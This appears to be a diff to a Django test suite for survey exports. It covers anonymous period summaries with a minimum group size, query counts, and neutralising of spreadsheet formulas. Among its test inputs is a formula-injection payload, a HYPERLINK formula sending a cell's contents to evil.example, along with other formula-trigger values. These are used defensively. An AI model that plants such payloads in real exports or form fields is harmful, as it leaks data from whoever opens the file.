@@ -1,4 +1,5 @@
-"""Response exports: columns and values, formula neutralising, anonymity, set-based reads."""
+"""Response exports: columns and values, formula neutralising, anonymous period summaries,
+set-based reads."""
 
 import csv
 import datetime
@@ -10,9 +11,16 @@ from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
 from audiences.models import AudienceKind
+from surveys import exports
 from surveys.exports import export_csv_lines, export_rows, export_xlsx, neutralise
 from surveys.models import Question, QuestionType
 from tests.factories import make_audience, make_person, make_touchpoint
+from tests.surveys.anonymous_support import (
+    OCTOBER,
+    OCTOBER_COMMENTS,
+    add_period_responses,
+    staff_pulse,
+)
 from tests.surveys.test_admin_support import add_response, survey_with_questions
 
 pytestmark = pytest.mark.django_db
@@ -38,8 +46,8 @@ def csv_rows(survey, **kwargs):
     return list(csv.reader(io.StringIO(text[1:])))
 
 
-def xlsx_rows(survey):
-    with export_xlsx(survey=survey) as output:
+def xlsx_rows(survey, **kwargs):
+    with export_xlsx(survey=survey, **kwargs) as output:
         workbook = load_workbook(io.BytesIO(output.read()), read_only=True)
         rows = [list(row) for row in workbook["responses"].iter_rows(values_only=True)]
     # Read-only sheets end a row at its last non-empty cell: pad to the header's width.
@@ -204,7 +212,7 @@ def test_xlsx_drops_control_characters_it_cannot_store():
     assert xlsx_rows(survey)[1][9] == "bad input"
 
 
-def test_anonymous_export_has_no_identifying_column_and_only_the_date():
+def test_superuser_export_of_an_anonymous_survey_has_no_identifying_column_and_the_day_stored():
     employees = make_audience("employees", AudienceKind.EMPLOYEE)
     survey = survey_with_questions(audience=employees, anonymous=True)
     response = add_response(
@@ -213,8 +221,8 @@ def test_anonymous_export_has_no_identifying_column_and_only_the_date():
     for _ in range(4):  # the survey reaches the anonymity threshold (5); no segment does
         add_response(survey, {"nps": 7}, segment="HR", completed_at=WHEN)
 
-    rows = csv_rows(survey)
-    sheet = xlsx_rows(survey)
+    rows = csv_rows(survey, full=True)
+    sheet = xlsx_rows(survey, full=True)
 
     header = ["response_id", "completed", "language", "channel", "segment", "touchpoint"]
     header += ["nps", "reason", "improve"]
@@ -226,18 +234,165 @@ def test_anonymous_export_has_no_identifying_column_and_only_the_date():
     assert len(rows) == 6
     assert sheet[0] == header
     assert sheet[1] == [response.pk, "2026-10-05", "tr", "email", None, None, 9, None, None]
-    assert "emp-1" not in "".join(export_csv_lines(survey=survey))
+    assert "emp-1" not in "".join(export_csv_lines(survey=survey, full=True))
 
 
-def test_anonymous_survey_under_the_threshold_exports_no_rows():
+def test_superuser_export_of_an_anonymous_survey_under_the_threshold_has_no_rows():
     employees = make_audience("employees", AudienceKind.EMPLOYEE)
     survey = survey_with_questions(audience=employees, anonymous=True)
     for n in range(4):  # one short of the threshold: the invitations tell who these four are
         add_response(survey, {"nps": n}, completed_at=WHEN)
 
     header = ["response_id", "completed", "language", "channel", "segment", "touchpoint"]
-    assert csv_rows(survey) == [header + ["nps", "reason", "improve"]]
-    assert len(xlsx_rows(survey)) == 1
+    assert csv_rows(survey, full=True) == [header + ["nps", "reason", "improve"]]
+    assert len(xlsx_rows(survey, full=True)) == 1
+
+
+# --- Anonymous surveys below superuser: one summary per reporting period ---------------------
+
+SUMMARY_HEADER = ["period_start", "period_end", "responses", "question", "measure", "option"]
+SUMMARY_HEADER.append("value")
+OCT = ["2026-10-01", "2026-10-31", "6"]
+
+
+def typed(cell: str) -> str | float:
+    """A CSV cell as XLSX keeps it: numbers as numbers."""
+    try:
+        return float(cell)
+    except ValueError:
+        return cell
+
+
+@pytest.fixture
+def pulse(monkeypatch):
+    # Comments come shuffled; sorted backwards here so the rows can be asserted exactly.
+    monkeypatch.setattr(exports, "_shuffle", lambda items: items.sort(reverse=True))
+    return staff_pulse()
+
+
+def test_anonymous_export_is_a_period_summary_of_released_groups_of_k(pulse):
+    rows = csv_rows(pulse.survey)
+
+    assert rows == [
+        SUMMARY_HEADER,
+        [*OCT, "", "responses", "", "6"],
+        [*OCT, "nps", "answers", "", "6"],
+        [*OCT, "nps", "nps", "", "0.0"],  # 3 promoters, 3 detractors of 6
+        [*OCT, "reason", "answers", "", "5"],
+        [*OCT, "reason", "count", "price", "3"],
+        [*OCT, "reason", "count", "speed", "2"],
+        [*OCT, "improve", "answers", "", "5"],
+        *[
+            [*OCT, "improve", "comment", "", neutralise(text)]
+            for text in sorted(OCTOBER_COMMENTS, reverse=True)
+        ],
+        # November is open: its released count only; December holds 2 (< 5): not exported.
+        ["2026-11-01", "2026-11-30", "5", "", "responses", "", "5"],
+    ]
+
+
+def test_anonymous_export_holds_no_response_id_day_segment_or_waiting_answer(pulse):
+    text = "".join(export_csv_lines(survey=pulse.survey))
+
+    assert "response_id" not in text
+    for hidden in ("sales", "legal", "email", "late and alone", "waiting", "December alone"):
+        assert hidden not in text
+    assert "Kasım notu" not in text  # the open period's comments wait for its publication
+
+
+def test_anonymous_xlsx_is_the_same_summary_on_a_summary_sheet(pulse):
+    csv_data = csv_rows(pulse.survey)
+
+    with export_xlsx(survey=pulse.survey) as output:
+        workbook = load_workbook(io.BytesIO(output.read()))
+    sheet = workbook["summary"]
+    values = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
+
+    assert values == [[typed(cell) for cell in row] for row in csv_data]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_choices_and_comments_of_fewer_than_k_people_are_left_out():
+    survey = survey_with_questions(
+        make_audience("employees", AudienceKind.EMPLOYEE), name="Pulse", anonymous=True
+    )
+    add_period_responses(
+        survey,
+        OCTOBER,
+        [{"nps": 9, "reason": "price", "improve": "only me"}] + [{"nps": 9}] * 4,
+        published=True,
+    )
+
+    rows = csv_rows(survey)
+
+    assert [row[3:] for row in rows[1:]] == [
+        ["", "responses", "", "5"],
+        ["nps", "answers", "", "5"],
+        ["nps", "nps", "", "100.0"],
+    ]
+
+
+def test_period_summaries_read_six_queries_however_many_responses(pulse):
+    # periods, questions, responses per day, scored sums, choice answers, comments
+    with CaptureQueriesContext(connection) as captured:
+        summaries = exports.period_summaries(survey=pulse.survey)
+    assert len(captured) == 6
+    assert [(s.starts_on.month, s.n, s.published) for s in summaries] == [
+        (10, 6, True),
+        (11, 5, False),
+        (12, None, False),
+    ]
+
+
+# --- Formula neutralising, read back from both formats --------------------------------------
+
+LIVE = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.mark.parametrize(
+    ("raw", "safe"),
+    [
+        (LIVE, "'" + LIVE[1:]),
+        ("\x00\x1f@SUM(A1)", "'@SUM(A1)"),
+        ("  =1+1", "'  =1+1"),
+        ("\n-2", "'\n-2"),
+        ("\u200b+3", "'\u200b+3"),  # a zero-width space is not printable
+        ("\xa0=4", "'\xa0=4"),
+        ("bell\x07 inside", "bell inside"),
+        ("a = b", "a = b"),
+        ("", ""),
+    ],
+)
+def test_neutralise_skips_control_characters_and_whitespace_before_a_trigger(raw, safe):
+    assert neutralise(raw) == safe
+
+
+def test_a_hyperlink_behind_a_control_character_is_no_formula_in_csv_or_xlsx():
+    survey = survey_with_questions()
+    add_response(
+        survey,
+        {"nps": 2, "improve": LIVE},
+        person=make_person("\x02@admin"),
+        segment="\t+vip",
+        completed_at=WHEN,
+    )
+
+    csv_data = csv_rows(survey)
+    with export_xlsx(survey=survey) as output:
+        workbook = load_workbook(io.BytesIO(output.read()))
+    cells = {cell.column_letter: cell for cell in workbook["responses"][2]}
+
+    assert (csv_data[1][4], csv_data[1][6], csv_data[1][9]) == (
+        "'\t+vip",
+        "'@admin",
+        "'" + LIVE[1:],
+    )
+    assert (cells["E"].value, cells["G"].value, cells["J"].value) == (
+        "'\t+vip",
+        "'@admin",
+        "'" + LIVE[1:],
+    )
+    assert "f" not in {cell.data_type for cell in cells.values()}
 
 
 def count_export_queries(survey, **kwargs) -> int:
